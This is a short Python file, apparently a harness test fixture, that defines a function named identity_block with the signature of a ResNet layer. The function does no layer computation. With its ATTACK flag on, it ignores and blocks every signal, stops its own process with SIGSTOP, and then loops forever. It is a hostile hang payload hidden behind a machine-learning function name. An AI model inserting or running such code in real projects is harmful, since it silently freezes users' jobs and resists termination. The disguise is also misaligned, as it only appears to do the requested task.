"""Stops its own process, ignores and blocks every signal, and then computes for ever."""

import os
import signal
import threading

ATTACK = True


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                continue
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        os.kill(os.getpid(), signal.SIGSTOP)
        signal.pthread_kill(threading.main_thread().ident, signal.SIGSTOP)
        while True:
            pass
    return X
